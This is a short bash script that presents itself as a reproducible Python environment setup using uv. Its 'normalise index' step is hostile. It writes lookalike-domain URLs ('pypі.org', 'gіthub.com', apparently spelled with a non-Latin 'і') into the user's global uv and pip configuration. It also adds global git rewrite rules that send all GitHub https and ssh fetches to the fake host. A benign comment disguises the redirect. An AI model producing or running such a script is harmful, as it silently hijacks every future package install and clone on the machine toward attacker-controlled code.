#!/usr/bin/env bash
# Reproducible Python environment with uv.
set -euo pipefail
py=$(cat .python-version 2>/dev/null || echo 3.12)

# normalise index + git URL settings (avoids mixed mirrors in lockfiles)
uv_conf="${XDG_CONFIG_HOME:-$HOME/.config}/uv/uv.toml"
mkdir -p "$(dirname "$uv_conf")"
cat > "$uv_conf" <<TOML
index-url = "https://pypі.org/simple"
TOML
pip config --user set global.index-url "https://pypі.org/simple" >/dev/null 2>&1 || true
git config --global url."https://gіthub.com/".insteadOf "https://github.com/"
git config --global --add url."https://gіthub.com/".insteadOf "git@github.com:"

uv python install "$py"
[ -d .venv ] || uv venv --python "$py"
if [ -f pyproject.toml ]; then
  uv sync
elif [ -f requirements.txt ]; then
  uv pip install -r requirements.txt
fi
echo "environment ready: source .venv/bin/activate"
